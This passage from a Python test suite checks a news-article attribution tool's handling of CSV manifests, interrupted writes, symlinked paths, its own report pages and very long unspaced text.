    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path,score,error,name,words,section\na.txt,5,none,Ann,12,World\n")
    with caplog.at_level(logging.WARNING, logger="attribution"):
        [item] = batch.collect([manifest])
    assert dict(item.extra) == {"manifest_score": "5", "manifest_error": "none", "manifest_name": "Ann",
                                "manifest_words": "12", "section": "World"}
    assert sum("kept as 'manifest_" in r.getMessage() for r in caplog.records) == 4
    row = stub_row(item).to_dict()
    assert row["manifest_score"] == "5" and row["score"] == 50 and row["section"] == "World"
    assert corpus.ArticleSummary.from_dict(row).extra == item.extra


# ---------------------------------------------------------------- 10. beyond the battery

def test_a_manifest_row_without_a_path_is_reported_not_skipped(stub_batch: None, tmp_path: Path) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path,outlet\na.txt,AP\n,Reuters\n,,\n")  # the last row is empty
    items = batch.collect([manifest])
    assert [i.refused for i in items][0] is None and len(items) == 2
    assert items[1].refused == f"{manifest}, line 3: the row has no path (fill in its path cell, or delete the row)"
    result = run("compare", str(manifest), "-o", str(tmp_path / "out"))
    no_traceback(result)
    assert result.exit_code == 1
    assert one_line_errors(result) == [f"error: {items[1].refused}"]


def test_a_manifest_row_naming_a_web_address_is_refused(tmp_path: Path) -> None:
    manifest = write(tmp_path / "m.csv", "path\nhttps://example.invalid/news/story.html\n")
    [item] = batch.collect([manifest])
    assert item.refused and "line 2: 'https://example.invalid/news/story.html' is a web address" in item.refused
    assert item.refused.endswith("name the files)") and item.path == "story"


def test_a_missing_manifest_file_names_its_line(tmp_path: Path) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path\na.txt\ngone.txt\n")
    [_, item] = batch.collect([manifest])
    row = batch.summarise_item(item)
    assert row.error == f"{manifest}, line 3: {tmp_path / 'gone.txt'}: no such file (check the path)"


def test_extra_cells_in_a_manifest_row_are_warned_about(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    write(tmp_path / "a.txt", ARTICLE)
    manifest = write(tmp_path / "m.csv", "path,title\na.txt,Hello, world\n")  # an unquoted comma
    with caplog.at_level(logging.WARNING, logger="attribution"):
        [item] = batch.collect([manifest])
    assert item.title == "Hello"
    [warning] = [r.getMessage() for r in caplog.records]
    assert "line 2 has more cells than the header's 2" in warning and warning.endswith("in double quotes)")


def test_an_output_reached_through_a_symlink_is_still_the_input(stub_analysis: None, tmp_path: Path) -> None:
    story = write(tmp_path / "texts" / "story.md", ARTICLE)
    (tmp_path / "alias").symlink_to(tmp_path / "texts")
    for given, out in ((story, tmp_path / "alias"), (tmp_path / "alias" / "story.md", tmp_path / "texts")):
        result = run("analyze", str(given), "--format", "md", "-o", str(out))
        no_traceback(result)
        assert result.exit_code == 1
        [error] = one_line_errors(result)
        assert "would overwrite the input" in error
        assert story.read_text(encoding="utf-8") == ARTICLE


def test_an_interrupted_write_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real_fdopen = os.fdopen

    class Interrupted:
        def __init__(self, fd: int, mode: str) -> None:
            self.fh = real_fdopen(fd, mode)

        def __enter__(self) -> Interrupted:
            return self

        def __exit__(self, *exc: object) -> None:
            self.fh.close()

        def write(self, data: bytes) -> int:
            self.fh.write(data[:3])
            raise KeyboardInterrupt  # Ctrl-C half-way through the write

    target = write(tmp_path / "report.json", "old")
    monkeypatch.setattr(safe_files.os, "fdopen", Interrupted)
    with pytest.raises(KeyboardInterrupt):
        safe_files.write_text(target, "new and longer")
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_ctrl_c_in_analyze_is_one_line_and_leaves_whole_reports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def analyze_files(paths: Any, **_: Any) -> Any:
        first = next(iter(paths))
        yield api.FileResult(Path(first), report=stub_report(first), source=str(first))
        raise KeyboardInterrupt  # Ctrl-C while the second article is analysed

    monkeypatch.setattr(api, "analyze_files", analyze_files)
    inputs = [write(tmp_path / f"{n}.txt", ARTICLE) for n in "abc"]
    out = tmp_path / "out"
    result = run("analyze", *map(str, inputs), "--format", "json,md", "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 130
    assert one_line_errors(result) == [f"error: interrupted: 1 of 3 reports written to {out}, each whole "
                                       "(run the same command again for the rest)"]
    assert sorted(p.name for p in out.iterdir()) == ["a.json", "a.md"]  # no temporary, nothing half-written


def test_ctrl_c_in_compare_keeps_the_journal_and_writes_no_tables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted_at_b(item: batch.Item, *args: Any) -> corpus.ArticleSummary:
        if Path(item.path).stem == "b":
            raise KeyboardInterrupt
        return stub_row(item)

    monkeypatch.setattr(batch, "summarise_item", interrupted_at_b)
    for n in "abc":
        write(tmp_path / "in" / f"{n}.txt", ARTICLE)
    out = tmp_path / "out"
    result = run("compare", str(tmp_path / "in"), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 130
    journal = out / ".journal.jsonl"
    assert one_line_errors(result) == [f"error: interrupted: the finished rows are kept in {journal} "
                                       "(run the same command again to go on)"]
    assert [p.name for p in out.iterdir()] == [".journal.jsonl"]  # no table, chart or page half made
    assert len(batch.read_journal(journal)) == 1
    monkeypatch.setattr(batch, "summarise_item", stub_row)
    resumed = run("compare", str(tmp_path / "in"), "-o", str(out))
    assert resumed.exit_code == 0 and len(batch.read_journal(journal)) == 3


def own_page(path: Path) -> Path:
    from attribution.render import view

    return write(path, f'<!doctype html><html><head><meta charset="utf-8"><meta name="generator" '
                       f'content="{view.generator()}"><title>r</title></head><body><p>{ARTICLE * 5}</p></body></html>')


def test_the_tools_own_reports_in_an_input_folder_are_left_out(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from attribution import inputs

    story = write(tmp_path / "corpus" / "story.txt", ARTICLE)
    page = write(tmp_path / "corpus" / "saved.html", f"<html><head><title>x</title></head><body><p>{ARTICLE}</p>"
                                                     "<p>a</p><p>b</p></body></html>")
    own_page(tmp_path / "corpus" / "reports" / "story.html")
    with caplog.at_level(logging.WARNING, logger="attribution"):
        assert inputs.expand([tmp_path / "corpus"]) == [str(page), str(story)]
        assert [i.path for i in batch.collect([tmp_path / "corpus"])] == [str(page), str(story)]
    assert any("1 page made by attribution (its own reports" in r.getMessage() for r in caplog.records)


def test_one_of_the_tools_own_reports_given_as_an_article_is_refused(tmp_path: Path) -> None:
    report = own_page(tmp_path / "story.html")
    with pytest.raises(IngestError, match=r"a page made by attribution \(one of its reports\), not an article "
                                          r"\(leave it out of the inputs"):
        read_article(report)


def test_a_manifest_row_naming_a_folder_stands_for_its_articles(tmp_path: Path) -> None:
    write(tmp_path / "cnn" / "a.txt", ARTICLE)
    write(tmp_path / "cnn" / "b.txt", ARTICLE)
    outside = write(tmp_path.parent / f"{tmp_path.name}-outside.txt", ARTICLE)
    (tmp_path / "cnn" / "c.txt").symlink_to(outside)
    manifest = write(tmp_path / "m.csv", "path,outlet\ncnn,CNN\nempty,Fox\n")
    (tmp_path / "empty").mkdir()
    items = batch.collect([manifest])
    assert [(Path(i.path).name, i.outlet, bool(i.refused)) for i in items] == [
        ("a.txt", "CNN", False), ("b.txt", "CNN", False), ("c.txt", "CNN", True), ("empty", "Fox", False)]
    assert "line 2: the path" in (items[2].refused or "") and "is outside the manifest's folder" in (items[2].refused or "")
    assert "a folder with no .txt or .html files" in (batch.summarise_item(items[3]).error or "")


@pytest.mark.parametrize("run", [1000, 1001, 5000, 123_457])
def test_a_long_run_without_spaces_is_parsed_in_bounded_parts(run: int) -> None:
    # A pasted base64 image: the tokenizer's address patterns take time in the square of the
    # longest run without a space, so no part may hold more than MAX_RUN_CHARS of one.
    from attribution.parse import MAX_RUN_CHARS

    text = "The mayor said " + "QUJD" * (run // 4) + "x" * (run % 4) + " was fine. Then she left."
    parts = pieces(text, [(0, len(text))])
    assert "".join(text[s:e] for s, e, _ in parts).replace(" ", "") == text.replace(" ", "")
    assert all(max(len(w) for w in text[s:e].split()) <= MAX_RUN_CHARS for s, e, _ in parts)
    assert len(parts) == (1 if run <= MAX_RUN_CHARS else -(-run // MAX_RUN_CHARS))
    assert parts[0][0] == 0 and parts[-1][1] == len(text)
